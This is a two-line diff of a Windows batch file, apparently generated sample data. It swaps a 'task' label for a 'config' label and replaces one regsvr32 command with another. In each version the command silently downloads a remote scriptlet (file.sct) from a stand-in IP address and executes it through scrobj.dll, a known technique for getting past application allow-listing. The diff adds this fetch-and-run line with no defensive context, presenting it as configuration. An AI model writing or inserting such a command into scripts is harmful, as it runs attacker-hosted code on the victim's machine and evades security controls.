@@ -1,2 +1,2 @@
-REM task 3579 v4
-regsvr32 /s /n /u /i:http://203.0.113.17/file.sct scrobj.dll
+REM config 3929 v4
+regsvr32 /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
